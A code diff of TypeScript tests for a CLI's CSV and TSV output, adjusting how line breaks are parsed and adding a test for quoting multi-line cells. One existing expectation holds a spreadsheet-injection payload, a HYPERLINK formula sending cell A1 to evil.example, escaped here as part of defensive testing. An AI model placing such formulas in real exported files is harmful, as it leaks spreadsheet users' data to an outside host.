@@ -29,11 +29,14 @@ function readCell(key: string, cell: string, formulasEscaped: boolean): unknown 
 
 const unescapeTsv = (cell: string) => cell.replace(/\\([tnr\\])/g, (_, c: string) => ({ t: '\t', n: '\n', r: '\r', '\\': '\\' })[c] ?? c);
 
-/** Reads CSV or TSV output back with csv-parse into records, by the cell rules. */
+/**
+ * Reads CSV or TSV output back with csv-parse into records, by the cell rules. Any line break outside
+ * quotes ends a row, as in Python's csv module and spreadsheets (csv-parse alone would guess CRLF only).
+ */
 function readTable(format: 'csv' | 'tsv', text: string, formulasEscaped: boolean): Record<string, unknown>[] {
   const rows: string[][] =
     format === 'csv'
-      ? parse(text, { bom: true })
+      ? parse(text, { bom: true, record_delimiter: ['\r\n', '\n', '\r'] })
       : (parse(text, { bom: true, delimiter: '\t', quote: false, record_delimiter: '\n' }) as string[][]).map((row) => row.map(unescapeTsv));
   const [header, ...body] = rows;
   return body.map((row) => Object.fromEntries(header!.map((key, i) => [key, readCell(key, row[i]!, formulasEscaped)])));
@@ -65,6 +68,11 @@ describe('CSV cells', () => {
     expect(stdout.split('\r\n')[1]).toBe(
       `"'=HYPERLINK(""http://evil.example/?q=""&A1, ""click me"")\nthen, a ""quoted"" word, a\ttab and a back\\slash\n- dash list: -1 +2 @three"`,
     );
+  });
+
+  it('quotes a body whose only special characters are line breaks (csv-stringify skips them when rows end in CRLF)', async () => {
+    const { stdout } = await runCli(['-f', 'csv', '--fields', 'body', path.join(ROOT, 'fixtures/samples/s02-youtube-with-key.txt')]);
+    expect(stdout).toBe('body\r\n"Growing tomatoes indoors: 90 day timelapse\nEverything we used is linked below."\r\n');
   });
 
   it.each([
